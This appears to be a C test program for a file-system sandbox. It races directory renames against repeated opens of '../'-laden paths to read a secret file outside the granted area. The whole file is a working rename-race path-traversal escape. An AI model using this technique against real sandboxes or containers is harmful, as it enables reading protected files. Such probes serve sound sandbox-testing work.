#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
/* 1 if the path leads to something that the host did not grant. */
static int leaks_at(int folder, const char *path, int how)
{
    char text[16] = {0};
    int file = openat(folder, path, how);
    if (file < 0)
        return 0;
    long got = read(file, text, sizeof text - 1);
    close(file);
    return got > 0 && strncmp(text, "granted", 7);
}
__attribute__((unused)) static int leaks(const char *path) { return leaks_at(AT_FDCWD, path, O_RDONLY); }

long attack(void)
{
    mkdir("/data/a", 0700);
    mkdir("/data/a/b", 0700);
    mkdir("/data/a/b/c", 0700);
    for (int i = 0; i < 20000; i++)
        if (leaks("/data/a/b/c/../../../../outside/secret.txt") || leaks("/data/c/../../outside/secret.txt") || leaks("/data/a/b/c/../../../out"))
            return 1;
    return 0;
}
long helper(void)
{
    rename("/data/a/b/c", "/data/c");
    rename("/data/c", "/data/a/b/c");
    return 0;
}
